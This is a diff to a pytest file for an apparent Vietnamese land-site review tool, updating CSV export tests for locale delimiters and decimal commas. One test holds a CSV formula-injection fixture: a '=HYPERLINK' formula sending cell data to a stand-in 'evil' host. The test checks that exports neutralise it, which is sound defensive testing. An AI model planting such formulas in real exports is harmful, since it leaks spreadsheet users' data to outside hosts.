@@ -46,11 +46,15 @@ def test_report_json_shape(ctx):
 
 def test_csv_and_geojson(ctx):
     rep = review_site(RICE, attrs=SiteAttrs(name="Khu A"), context=ctx, config=ReviewConfig())
-    rows = list(csv.reader(io.StringIO(rep.to_csv("vi"))))
+    text = rep.to_csv("vi")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))  # Vietnamese: ';' between cells, decimal comma
     assert rows[0] == ["Khu đất", "Mã quy tắc", "Mức độ", "Quy tắc", "Giá trị", "Đơn vị", "Căn cứ", "Nhận xét"]
     assert len(rows) == 1 + len(rep.findings)
     rice = next(r for r in rows if r[1] == "rice_land")
-    assert rice[2] == "Cảnh báo" and float(rice[4]) == pytest.approx(50.0) and rice[5] == "ha"
+    assert rice[2] == "Cảnh báo" and float(rice[4].replace(",", ".")) == pytest.approx(50.0) and rice[5] == "ha"
+    assert "." not in rice[4]
+    (en_value,) = [r[4] for r in csv.reader(io.StringIO(rep.to_csv("en"))) if r[1] == "rice_land"]
+    assert float(en_value) == float(rice[4].replace(",", "."))  # English: ',' between cells, decimal point
     assert rice[6] == "Điều 1, III.4; V.1.h"
     gj = rep.to_geojson("en")
     (feat,) = gj["features"]
@@ -148,9 +152,9 @@ def test_stored_history_and_ledger(ctx, tmp_path):
 def test_report_csv_neutralises_a_formula_site_name(ctx, lang: str, severity: str) -> None:
     name = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
     rep = review_site(RICE, attrs=SiteAttrs(name=name), context=ctx, config=ReviewConfig())
-    rows = list(csv.reader(io.StringIO(rep.to_csv(lang))))
+    rows = list(csv.reader(io.StringIO(rep.to_csv(lang)), delimiter=";" if lang == "vi" else ","))
     assert all(r[0] == "'" + name for r in rows[1:])
     rice = next(r for r in rows if r[1] == "rice_land")
     assert rice[2] == severity
-    assert float(rice[4]) == pytest.approx(50.0)  # numbers stay numbers
+    assert float(rice[4].replace(",", ".")) == pytest.approx(50.0)  # numbers stay numbers
     assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
